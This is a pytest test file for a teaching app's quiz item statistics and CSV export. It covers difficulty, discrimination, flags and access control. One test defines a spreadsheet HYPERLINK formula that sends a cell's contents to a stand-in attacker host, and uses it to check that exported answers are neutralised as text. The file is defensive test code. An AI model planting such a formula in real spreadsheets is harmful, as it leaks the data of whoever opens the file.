"""Item statistics of a released set (tutor.questions.item_stats) from students' real submissions
(tutor.questions.practice.submit): difficulty, discrimination (point-biserial against the rest score, upper-lower 27
%), option shares, the flags on the set page, and the CSV export."""

import csv
import io
import statistics

import pytest

from courses.models import Membership
from tests.support import make_member, session_headers
from tutor.questions import item_stats, practice
from tutor.questions.models import Question, QuestionSet

pytestmark = pytest.mark.django_db

# 10 students: their answers to (single choice, easy true/false, single choice, hard short answer), so that their
# totals (4, 3, 3, 2, 2, 2, 2, 1, 1, 1) make the best and the weakest 27 % (3 students each) unambiguous
ANSWERS = [
    ("0", "true", "0", "upstart"), ("0", "true", "0", "x"), ("0", "true", "0", "x"), ("0", "true", "1", "x"),
    ("0", "true", "1", "x"), ("1", "true", "0", "x"), ("1", "true", "0", "x"), ("2", "true", "1", "x"),
    ("2", "true", "1", "x"), ("2", "true", "1", "systemd"),
]


@pytest.fixture
def answered(course):
    question_set = QuestionSet.objects.create(course=course, title="Statistik", status=QuestionSet.RELEASED)
    kinds = [dict(kind=Question.SINGLE, stem="Welche PID hat init?", options=["1", "2", "3"], correct_index=0),
             dict(kind=Question.TRUE_FALSE, stem="Der Kernel startet init.", truth=True),
             dict(kind=Question.SINGLE, stem="Was ist APT?", options=["Ein Paketwerkzeug", "Ein Editor"],
                  correct_index=0),
             dict(kind=Question.SHORT, stem="Wie heißt das Init-System?", accepted_answers=["upstart"])]
    questions = [Question.objects.create(question_set=question_set, position=n, review=Question.APPROVED, **fields)
                 for n, fields in enumerate(kinds, start=1)]
    for row in ANSWERS:
        user, _token = make_member(course)
        practice.submit(question_set, user, {str(q.pk): [a] for q, a in zip(questions, row, strict=True)},
                        report=False)
        practice.submit(question_set, user, {str(questions[0].pk): ["0"]}, report=False)  # second attempts: ignored
    teacher, _token = make_member(course, Membership.INSTRUCTOR)
    practice.submit(question_set, teacher, {str(questions[0].pk): ["2"]}, report=False)  # teachers: ignored
    return question_set, questions


def test_difficulty_discrimination_and_shares_from_first_attempts(answered):
    question_set, questions = answered
    found = item_stats.item_statistics(question_set)
    assert found["students"] == len(ANSWERS)
    first, easy, third, hard = found["items"]
    credits = [[float(a[0] == "0"), 1.0, float(a[2] == "0"), float(a[3] == "upstart")] for a in ANSWERS]
    totals = [sum(c) for c in credits]
    for number, entry in enumerate(found["items"]):
        item = [c[number] for c in credits]
        assert entry["n"] == len(ANSWERS)
        assert entry["difficulty"] == pytest.approx(sum(item) / len(item), abs=0.001)
        rest = [t - i for t, i in zip(totals, item, strict=True)]
        expected = statistics.correlation(item, rest) if len(set(item)) > 1 else None
        assert entry["point_biserial"] == (pytest.approx(expected, abs=0.001) if expected is not None else None)
        flat = expected is None or expected < item_stats.LOW_DISCRIMINATION
        assert ("flat" in entry["flags"]) == flat
    # the best 3 (totals 4, 3, 3) all answered the first question right, the weakest 3 (1, 1, 1) none of them
    assert first["upper_lower"] == 1.0 and hard["upper_lower"] == pytest.approx(1 / 3, abs=0.001)
    assert [(label, share) for label, share, _right in first["options"]] == [("1", 0.5), ("2", 0.2), ("3", 0.3)]
    assert [right for _label, _share, right in first["options"]] == [True, False, False]
    assert "easy" in easy["flags"] and "hard" in hard["flags"] and not {"easy", "hard"} & set(first["flags"])
    assert third["difficulty"] == 0.5
    # only answers that USAGE_MIN_STUDENTS (5) students gave: "upstart" and "systemd" were one student's each
    assert hard["answers"] == [("x", 8)]


def test_frequent_answers_name_no_answer_fewer_students_gave_than_the_usage_page_asks(answered, settings):
    """An answer one student gave is not listed verbatim ("Frequent answers (1)"): the usage page's minimum."""
    question_set, _questions = answered
    settings.USAGE_MIN_STUDENTS = 9
    assert item_stats.item_statistics(question_set)["items"][3]["answers"] == []
    settings.USAGE_MIN_STUDENTS = 1
    assert item_stats.item_statistics(question_set)["items"][3]["answers"] == [("x", 8), ("upstart", 1),
                                                                              ("systemd", 1)]


def test_too_few_students_are_not_judged(course):
    question_set = QuestionSet.objects.create(course=course, title="Wenig", status=QuestionSet.RELEASED)
    question = Question.objects.create(question_set=question_set, position=1, stem="Welche PID hat init?",
                                       options=["1", "2"], correct_index=0, review=Question.APPROVED)
    user, _token = make_member(course)
    practice.submit(question_set, user, {str(question.pk): ["0"]}, report=False)
    [entry] = item_stats.item_statistics(question_set)["items"]
    assert entry["flags"] == ["few"] and entry["difficulty"] == 1.0


def test_the_set_page_flags_questions_and_the_statistics_download_as_csv(answered, client, course):
    question_set, questions = answered
    _, token = make_member(course, Membership.INSTRUCTOR)
    page = client.get(f"/c/{course.pk}/questions/{question_set.pk}/", headers=session_headers(token)).content.decode()
    assert "Almost everyone answers it right." in page and "Almost everyone answers it wrong" in page
    assert "Item statistics" in page
    stats_page = client.get(f"/c/{course.pk}/questions/{question_set.pk}/statistics/", headers=session_headers(token)).content.decode()
    assert "From the first attempts of 10 students." in stats_page and "point-biserial" in stats_page
    response = client.get(f"/c/{course.pk}/questions/{question_set.pk}/statistics.csv", headers=session_headers(token))
    assert response["Content-Type"].startswith("text/csv") and "attachment" in response["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [r["question"] for r in rows] == [q.stem for q in questions]
    assert rows[0]["difficulty"] == "0.5" and rows[1]["flags"] == "easy flat" and rows[1]["point_biserial"] == ""
    assert rows[0]["option_shares"] == "*1: 0.5; 2: 0.2; 3: 0.3"
    _, student = make_member(course)
    assert client.get(f"/c/{course.pk}/questions/{question_set.pk}/statistics/", headers=session_headers(student)).status_code == 403


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Mehr Infos")'


def test_a_students_formula_in_an_answer_stays_text_in_the_csv(course, settings):
    """A student answers an open question with a spreadsheet formula; the lecturer's CSV shows it as text."""
    settings.USAGE_MIN_STUDENTS = 2  # two students gave the formula: it is listed among the frequent answers
    question_set = QuestionSet.objects.create(course=course, title="Formeln", status=QuestionSet.RELEASED)
    question = Question.objects.create(question_set=question_set, position=1, kind=Question.SHORT,
                                       stem="-Wie heißt das Init-System?", accepted_answers=["systemd"],
                                       review=Question.APPROVED)
    for answer in (FORMULA, FORMULA, "@SUM(1+1)", "systemd"):
        user, _token = make_member(course)
        practice.submit(question_set, user, {str(question.pk): [answer]}, report=False)
    [row] = list(csv.DictReader(io.StringIO(item_stats.as_csv(item_stats.item_statistics(question_set)))))
    assert row["frequent_answers"].startswith("'" + FORMULA)  # the most frequent answer opens the cell
    assert row["question"] == "'-Wie heißt das Init-System?"
    assert row["students"] == "4" and row["difficulty"] == "0.25"  # numbers stay numbers


@pytest.mark.parametrize("value, written", [
    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("a=1", "a=1"), ("", ""), (-0.5, "-0.5"), (3, "3"),
])
def test_every_formula_start_is_neutralised_and_nothing_else(value, written):
    from config import spreadsheets

    out = io.StringIO()
    spreadsheets.writer(out).writerow([value])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == [written]


def test_no_csv_is_written_around_the_safe_writer():
    """Every CSV the product writes goes through config.spreadsheets (one place for the rule)."""
    from pathlib import Path

    root = Path(__file__).resolve().parent.parent
    for app in ("config", "courses", "lti", "tutor"):
        for path in (root / app).rglob("*.py"):
            if path.name != "spreadsheets.py":
                assert "csv.writer(" not in path.read_text() and "DictWriter(" not in path.read_text(), path
